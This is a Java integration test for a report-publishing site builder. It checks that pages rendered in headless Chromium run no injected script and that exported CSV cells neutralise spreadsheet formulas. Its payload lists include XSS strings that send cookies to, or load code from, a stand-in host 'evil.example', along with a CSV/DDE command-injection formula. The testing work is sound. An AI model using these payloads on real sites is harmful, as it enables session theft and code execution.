package kz.bayandama.site;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import com.sun.net.httpserver.SimpleFileServer;
import java.io.File;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import kz.bayandama.report.AdoptedEdition;
import kz.bayandama.report.Edition;
import kz.bayandama.report.Edition.PublicRecommendation;
import kz.bayandama.report.Language;
import kz.bayandama.report.Texts;
import kz.bayandama.report.VisitReport.Addressee;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;

/**
 * Texts that attack: the Big List of Naughty Strings (MIT licence) and scripts in all the places
 * that browsers run them from. Rendered by Chromium they leave the same elements and attributes as
 * texts of plain letters.
 */
class InjectionIT {
  private static final List<String> SCRIPTS =
      List.of(
          "alert(1)",
          "window.hit=1",
          "document.title='hit'",
          "fetch('//evil.example/'+document.cookie)",
          "document.body.innerHTML='hit'",
          "location='//evil.example'",
          "top['al'+'ert'](1)",
          "eval(atob('d2luZG93LmhpdD0x'))",
          "import('//evil.example/x.js')",
          "new Image().src='//evil.example'");

  private static final List<String> PLACES =
      List.of(
          "<script>%s</script>",
          "</script><script>%s</script>",
          "<img src=x onerror=\"%s\">",
          "\"><svg onload=\"%s\">",
          "'><body onload='%s'>",
          "<a href=\"javascript:%s\">x</a>",
          "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
          "</title></style></textarea><script>%s</script>",
          "<details open ontoggle=\"%s\">",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=\"%s\">",
          "--><script>%s</script><!--",
          "]]><script>%s</script>",
          "{{{%s}}}",
          "{{#lambda}}%s{{/lambda}}",
          "${%s}",
          "<x onclick=\"%s\" tabindex=1 autofocus onfocus=\"%s\">",
          "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
          "<object data=\"data:text/html,<script>%s</script>\"></object>",
          "&lt;script&gt;%s&lt;/script&gt;",
          "\\u003cscript\\u003e%s\\u003c/script\\u003e");

  @TempDir Path folder;

  private static List<String> attacks() throws IOException {
    List<String> attacks = new ArrayList<>();
    try (InputStream in = InjectionIT.class.getResourceAsStream("/naughty/blns.json")) {
      for (JsonNode one : new ObjectMapper().readTree(Objects.requireNonNull(in))) {
        if (!one.asText().isBlank()) {
          attacks.add(one.asText());
        }
      }
    }
    int strings = attacks.size();
    for (String place : PLACES) {
      for (String script : SCRIPTS) {
        attacks.add(place.replace("%s", script));
      }
    }
    assertThat(attacks).hasSize(strings + 200);
    assertThat(strings).isGreaterThan(400);
    return attacks;
  }

  /** An edition whose texts all come from the list. */
  private static AdoptedEdition edition(List<String> texts, UnaryOperator<String> as) {
    AdoptedEdition plain = SampleEditions.edition(2025, texts.size());
    Edition edition = plain.edition();
    List<PublicRecommendation> changed = new ArrayList<>();
    for (int i = 0; i < edition.recommendations().size(); i++) {
      String text = as.apply(texts.get(i % texts.size()));
      String other = as.apply(texts.get((i + 7) % texts.size()));
      changed.add(
          edition
              .recommendations()
              .get(i)
              .with(
                  Texts.of(Language.RU, text).and(Language.KK, other),
                  new Addressee("MVD", other),
                  null));
    }
    return new AdoptedEdition(
        new Edition(
            edition.year(),
            edition.lastYear(),
            edition.title(),
            edition.chapters(),
            edition.visits(),
            edition.findings(),
            changed,
            edition.proposals()),
        plain.adoption());
  }

  /** As many lines and words, but letters only. */
  private static String harmless(String text) {
    return text.codePoints()
        .mapToObj(c -> Character.isWhitespace(c) ? Character.toString(c) : "x")
        .reduce("", String::concat);
  }

  private Path built(AdoptedEdition edition, String name) throws IOException {
    Path tree = folder.resolve(name);
    new SiteBuilder().build(List.of(edition), SampleEditions.KZ, SiteSettings.relative(), tree);
    return tree;
  }

  private static HttpServer serve(Path tree) throws IOException {
    HttpServer server =
        SimpleFileServer.createFileServer(
            new InetSocketAddress(InetAddress.getLoopbackAddress(), 0),
            tree.toRealPath(),
            SimpleFileServer.OutputLevel.NONE);
    server.start();
    return server;
  }

  private static String address(HttpServer server) {
    return "http://127.0.0.1:" + server.getAddress().getPort() + "/";
  }

  private List<String> elements(ChromeDriver browser, AdoptedEdition edition, String name)
      throws IOException {
    HttpServer server = serve(built(edition, name));
    String site = address(server);
    List<String> all = new ArrayList<>();
    List<String> pages = new ArrayList<>(List.of("ru/ministries/mvd/", "kk/", "en/data/"));
    for (int chapter = 1; chapter <= 8; chapter++) {
      pages.add("ru/reports/2025/chapter-" + chapter + "/");
    }
    for (int i = 0; i < edition.edition().recommendations().size(); i += 35) {
      pages.add("ru/recommendations/" + edition.edition().recommendations().get(i).id() + "/");
    }
    try {
      for (String page : pages) {
        browser.get(site + page);
        all.add(page + " " + browser.executeScript(ELEMENTS));
      }
    } finally {
      server.stop(0);
    }
    return all;
  }

  private ChromeDriver browser() {
    ChromeOptions options = new ChromeOptions();
    options.setBinary("/usr/bin/chromium");
    options.addArguments(
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        "--user-data-dir=" + folder.resolve("chromium"));
    return new ChromeDriver(
        new ChromeDriverService.Builder()
            .usingDriverExecutable(new File("/usr/bin/chromedriver"))
            .build(),
        options);
  }

  /** What the browser would save of a table, as the explorer asks for it. */
  private static final String SAVED =
      """
      const [program, table, ids, done] = arguments;
      URL.createObjectURL = (blob) => (blob.text().then(done), "blob:none");
      HTMLAnchorElement.prototype.click = () => {};
      const script = document.createElement("script");
      script.onload = () => bayandamaSave("csv", ids.map((id) => ({ id })), () => table);
      script.src = program;
      document.head.append(script);
      """;

  private static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"//evil.example\")",
          "+7+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1)",
          "＝1+1",
          "－1",
          "＋1",
          "＠SUM(1)");

  @Test
  void noCellOfATableThatTheBrowserSavesIsAFormula() throws Exception {
    AdoptedEdition edition = edition(FORMULAS, text -> text);
    Path tree = built(edition, "formulas");
    HttpServer server = serve(tree);
    ChromeDriver browser = browser();
    try (Stream<Path> files = Files.walk(tree)) {
      Path program =
          files
              .filter(file -> file.getFileName().toString().matches("save[^/]*\\.js"))
              .findFirst()
              .orElseThrow();
      browser.get(address(server) + "ru/data/");
      List<String> ids =
          edition.edition().recommendations().stream().map(PublicRecommendation::id).toList();
      String csv =
          (String)
              browser.executeAsyncScript(
                  SAVED,
                  address(server) + tree.relativize(program),
                  address(server) + "data/recommendations-ru.csv",
                  ids);
      for (String formula : FORMULAS) {
        String cell = formula.replace("\"", "\"\"");
        assertThat(csv)
            .contains("'" + cell)
            .doesNotContain("''" + cell)
            .doesNotContain("," + cell)
            .doesNotContain(",\"" + cell);
      }
    } finally {
      browser.quit();
      server.stop(0);
    }
  }

  private static final String ELEMENTS =
      """
      return (window.hit || '') + [...document.querySelectorAll('*')].map(e => e.localName + '['
          + [...e.attributes].map(a => a.name).join(',') + ']').join(' ');
      """;

  @Test
  void attacksLeaveTheSameElementsAsPlainText() throws Exception {
    List<String> attacks = attacks();
    ChromeDriver browser = browser();
    try {
      List<String> attacked = elements(browser, edition(attacks, text -> text), "attacked");
      List<String> plain = elements(browser, edition(attacks, InjectionIT::harmless), "plain");
      assertThat(attacked).isEqualTo(plain);
    } finally {
      browser.quit();
    }
  }
}
